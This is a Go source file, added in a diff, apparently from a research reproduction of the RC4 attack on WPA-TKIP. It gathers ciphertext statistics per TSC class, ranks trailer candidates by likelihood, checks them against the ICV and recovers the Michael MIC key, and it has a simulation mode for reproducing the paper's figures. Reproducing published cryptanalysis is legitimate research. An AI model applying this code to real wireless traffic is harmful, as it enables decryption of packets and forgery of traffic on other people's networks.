@@ -1,0 +1,177 @@
+package tkip
+
+import (
+	"errors"
+	"math"
+	"math/rand"
+
+	"rc4break/internal/checksum"
+	"rc4break/internal/michael"
+	"rc4break/internal/recovery"
+)
+
+// Attack accumulates ciphertext statistics for the §5.3 packet-decryption
+// attack: the victim is made to transmit many encryptions of one identical
+// packet (§5.2), and for each unknown plaintext position the attacker keeps
+// per-TSC-class ciphertext byte counts.
+type Attack struct {
+	Model     *PerTSCModel
+	Positions []int    // 1-indexed keystream positions under attack
+	counts    []uint64 // [class][posIdx][cipherByte]
+	Frames    uint64
+}
+
+// NewAttack prepares an attack over the given keystream positions, which
+// must all be covered by the trained model.
+func NewAttack(model *PerTSCModel, positions []int) (*Attack, error) {
+	for _, p := range positions {
+		if p < 1 || p > model.Positions {
+			return nil, errors.New("tkip: position outside trained model")
+		}
+	}
+	return &Attack{
+		Model:     model,
+		Positions: append([]int(nil), positions...),
+		counts:    make([]uint64, 256*len(positions)*256),
+	}, nil
+}
+
+// Observe folds one captured frame into the statistics. Retransmission
+// filtering by TSC (§5.4) is the caller's concern; Observe assumes each
+// frame is a distinct encryption.
+func (a *Attack) Observe(f Frame) {
+	class := int(f.TSC.TSC0())
+	base := class * len(a.Positions) * 256
+	for pi, pos := range a.Positions {
+		a.counts[base+pi*256+int(f.Body[pos-1])]++
+	}
+	a.Frames++
+}
+
+// ObserveKeystreamSample folds a model-sampled observation for class tsc0
+// where the keystream byte at position index pi was z and the plaintext
+// byte was pt. Used by the simulation drivers (model mode).
+func (a *Attack) ObserveKeystreamSample(tsc0 byte, pi int, z, pt byte) {
+	base := int(tsc0) * len(a.Positions) * 256
+	a.counts[base+pi*256+int(z^pt)]++
+}
+
+// AddFrameCount is used with ObserveKeystreamSample to keep Frames correct.
+func (a *Attack) AddFrameCount(n uint64) { a.Frames += n }
+
+// Likelihoods computes the per-position single-byte log-likelihoods by
+// combining per-TSC evidence: the §5.1 product over TSC classes of the
+// per-class likelihood (a sum in log space).
+func (a *Attack) Likelihoods() ([]*recovery.ByteLikelihoods, error) {
+	out := make([]*recovery.ByteLikelihoods, len(a.Positions))
+	for pi, pos := range a.Positions {
+		total := new(recovery.ByteLikelihoods)
+		for class := 0; class < 256; class++ {
+			base := class*len(a.Positions)*256 + pi*256
+			var cnt [256]uint64
+			var any bool
+			for v := 0; v < 256; v++ {
+				cnt[v] = a.counts[base+v]
+				any = any || cnt[v] != 0
+			}
+			if !any {
+				continue
+			}
+			l, err := recovery.SingleByteLikelihoods(&cnt, a.Model.Distribution(byte(class), pos))
+			if err != nil {
+				return nil, err
+			}
+			for v := 0; v < 256; v++ {
+				total[v] += l[v]
+			}
+		}
+		out[pi] = total
+	}
+	return out, nil
+}
+
+// RecoverTrailer runs the §5.3 candidate search: the attacked positions are
+// the 12 trailer bytes (MIC ‖ ICV) of a packet whose MSDU plaintext is
+// known. Candidates are generated in decreasing likelihood and pruned by
+// the ICV check; on success the recovered MIC key is returned along with
+// the 1-based candidate list position at which the check first passed
+// (Figure 9's metric).
+func (a *Attack) RecoverTrailer(da, sa [6]byte, knownMSDU []byte, maxDepth int) ([michael.KeySize]byte, int, error) {
+	if len(a.Positions) != TrailerSize {
+		return [michael.KeySize]byte{}, 0, errors.New("tkip: attack must cover exactly the 12 trailer bytes")
+	}
+	lks, err := a.Likelihoods()
+	if err != nil {
+		return [michael.KeySize]byte{}, 0, err
+	}
+	plain := make([]byte, len(knownMSDU)+TrailerSize)
+	copy(plain, knownMSDU)
+	cand, depth, err := recovery.SearchSingleByte(lks, func(trailer []byte) bool {
+		copy(plain[len(knownMSDU):], trailer)
+		return checksum.VerifyICV(plain)
+	}, maxDepth)
+	if err != nil {
+		return [michael.KeySize]byte{}, 0, err
+	}
+	copy(plain[len(knownMSDU):], cand.Plaintext)
+	key, err := RecoverMICKeyFromPlaintext(da, sa, plain)
+	return key, depth, err
+}
+
+// SimulateCaptures fills the attack statistics with n model-mode captures:
+// the TSC0 class cycles per packet (the TSC increments), and the keystream
+// bytes at the attacked positions follow the trained per-TSC distributions.
+// Rather than drawing each frame, the per-(class, position) ciphertext
+// histograms are sampled directly as sufficient statistics (a per-cell
+// normal approximation of the multinomial, exact in shape for the counts
+// the likelihoods consume), making the cost independent of n — the same
+// approach the paper's own Fig. 8 simulation scale demands. The plaintext
+// pt supplies the true bytes at the attacked positions.
+func (a *Attack) SimulateCaptures(rng *rand.Rand, pt []byte, n uint64) error {
+	if len(pt) != len(a.Positions) {
+		return errors.New("tkip: plaintext length must match attacked positions")
+	}
+	perClass := float64(n) / 256
+	for class := 0; class < 256; class++ {
+		base := class * len(a.Positions) * 256
+		for pi, pos := range a.Positions {
+			dist := a.Model.Distribution(byte(class), pos)
+			row := a.counts[base+pi*256 : base+pi*256+256]
+			for z := 0; z < 256; z++ {
+				mean := perClass * dist[z]
+				v := mean + math.Sqrt(mean)*rng.NormFloat64()
+				if v < 0 {
+					v = 0
+				}
+				row[z^int(pt[pi])] += uint64(v + 0.5)
+			}
+		}
+	}
+	a.AddFrameCount(n)
+	return nil
+}
+
+// TrailerPositions returns the 1-indexed keystream positions of the MIC and
+// ICV for an MSDU of the given length — with the paper's preferred 7-byte
+// TCP payload these are positions 56..67 (§5.2 discusses why this placement
+// beats a 0-byte payload).
+func TrailerPositions(msduLen int) []int {
+	out := make([]int, TrailerSize)
+	for i := range out {
+		out[i] = msduLen + 1 + i
+	}
+	return out
+}
+
+// ExpectedTrailerScore is a helper for experiments: the log-likelihood the
+// model assigns the true trailer, useful for ranking diagnostics.
+func ExpectedTrailerScore(lks []*recovery.ByteLikelihoods, trailer []byte) float64 {
+	if len(lks) != len(trailer) {
+		return math.Inf(-1)
+	}
+	var s float64
+	for i, l := range lks {
+		s += l[trailer[i]]
+	}
+	return s
+}
